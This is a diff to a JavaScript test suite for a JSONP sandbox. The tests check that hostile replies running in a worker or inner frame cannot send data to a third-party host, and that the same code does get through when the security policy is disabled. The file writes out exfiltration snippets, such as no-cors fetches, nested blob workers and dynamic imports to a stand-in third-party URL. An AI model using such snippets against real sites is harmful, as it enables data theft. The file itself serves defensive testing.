@@ -5,8 +5,10 @@ import { after, before, beforeEach, test } from "node:test";
 import { openJsonpStage, withScript, withoutPolicy } from "./harness/jsonp.mjs";
 import { waitFor } from "./harness/wait.mjs";
 
-// A reply cannot be awaited, so the code stays as long as its work may take: an answer that comes back, or this long.
-const stay = "const end = performance.now() + 300; while (performance.now() < end);";
+// The longest that code of a reply stays, in milliseconds, so that what it began could arrive. In the worker it has to loop for
+// that; in the inner frame it takes our handler away and calls back later, if its document still lives.
+const STAY = 300;
+const stay = `const end = performance.now() + ${STAY}; while (performance.now() < end);`;
 
 // Ways to send the number to somebody else, out of a worker; each names itself in the path.
 const leaks = {
@@ -21,8 +23,8 @@ const leaks = {
   "nested-fetch": "new Worker(URL.createObjectURL(new Blob([`fetch('${THIRD}', { mode: 'no-cors' })`])))",
   module: "import(THIRD)",
 };
-// Where the browser itself gives a way no chance, also without our policy.
-const hopeless = [];
+// A worker in the worker starts when the code has returned, and then it is too late, also without our policy.
+const tooLate = ["nested-worker", "nested-fetch"];
 
 // Ways to act on the page, its windows, its storage or our code; none of them may matter.
 const attacks = {
@@ -87,10 +89,11 @@ const windowAttacks = {
 let stage;
 const attempt = (code) => `try { ${code} } catch {}`;
 const answering = (callback, code) => `${code}\n${callback}({ "id": "ran" })`;
+const answeringLater = (callback, code) => `document.currentScript.onload = null; ${code}\nsetTimeout(${callback}, ${STAY}, { "id": "ran" })`;
 
 /** Every reply by its name: the code, then as much time as it needs, then the call that shows that it ran. */
 function scripts(third) {
-  const named = ([way, name, code]) => [`${way}-${name}`, (callback) => answering(callback, code)];
+  const named = ([way, name, code]) => [`${way}-${name}`, (callback) => (way === "window-leak" ? answeringLater : answering)(callback, code)];
   const leaking = (way) => ([name, code]) => [way, name, `const THIRD = "${third}/${way}-${name}";\n${attempt(code)}\n${way === "leak" ? stay : ""}`];
   const acting = (way) => ([name, code]) => [way, name, code.split(";").map(attempt).join("\n")];
   const all = [
@@ -137,12 +140,15 @@ const state = () =>
     violations: [...violations],
   }));
 
-async function changesNothing(as, file) {
+async function changesNothing(as, file, deadline) {
   const before = await state();
   const windows = await stage.driver.getAllWindowHandles();
-  const told = await stage.call(as, file);
+  const told = await stage.call(as, file, deadline);
   assert.equal((await stage.call("good", file)).text, '{"id":"good"}');
-  assert.deepEqual(await state(), before);
+  const now = await state();
+  // The one thing on this list that a window can do, also where it may not go: SECURITY.md names it.
+  if (as === "window-leak-navigation") delete before.steps, delete now.steps;
+  assert.deepEqual(now, before);
   assert.deepEqual(await stage.driver.getAllWindowHandles(), windows);
   assert.equal(stage.gateway.of(as).length, 1);
   return told;
@@ -177,8 +183,11 @@ test("hostile replies beside forty good ones change none of them", async () => {
 
 for (const name of Object.keys(windowLeaks)) {
   test(`code in the inner frame sends nothing to a third party by ${name}`, async () => {
-    assert.equal((await changesNothing(`window-leak-${name}`, "inner")).text, '{"id":"ran"}');
-    assert.deepEqual([stage.third.paths, stage.third.connections()], [[], 0]);
+    const { text, failed } = await changesNothing(`window-leak-${name}`, "inner", 2 * STAY);
+    // A document that wanted to go elsewhere is gone, and answers nobody.
+    assert.equal(text ?? failed, ["navigation", "refresh"].includes(name) ? "aborted" : '{"id":"ran"}');
+    // Connections are not counted here: a window can open them, and no policy forbids that.
+    assert.deepEqual(stage.third.paths, []);
   });
 }
 
@@ -189,11 +198,13 @@ for (const name of Object.keys(windowAttacks)) {
 }
 
 // Last, because from here on the third party has heard of somebody.
-test("without the policy the same code reaches the third party, so the tests above would have seen it", async () => {
-  const { third } = stage;
-  for (const name of Object.keys(leaks)) await stage.call(`leak-${name}`, "open");
-  const arrive = Object.keys(leaks).filter((name) => !hopeless.includes(name));
-  const arrived = () => arrive.filter((name) => third.paths.includes(`/leak-${name}`));
-  await waitFor("every way out of the worker", () => arrived().length === arrive.length).catch(() => assert.deepEqual(arrived(), arrive));
-  assert.ok(third.connections() > 0);
-});
+for (const [way, known, file] of [["leak", leaks, "open"], ["window-leak", windowLeaks, "inner-open"]]) {
+  test(`without the policy the same code reaches the third party, so the tests above would have seen it: ${file}`, async () => {
+    const { third } = stage;
+    const arrive = Object.keys(known).filter((name) => !tooLate.includes(name));
+    for (const name of arrive) await stage.call(`${way}-${name}`, file, 2 * STAY);
+    const arrived = () => arrive.filter((name) => third.paths.includes(`/${way}-${name}`));
+    await waitFor("every way out", () => arrived().length === arrive.length).catch(() => assert.deepEqual(arrived(), arrive));
+    assert.ok(third.connections() > 0);
+  });
+}
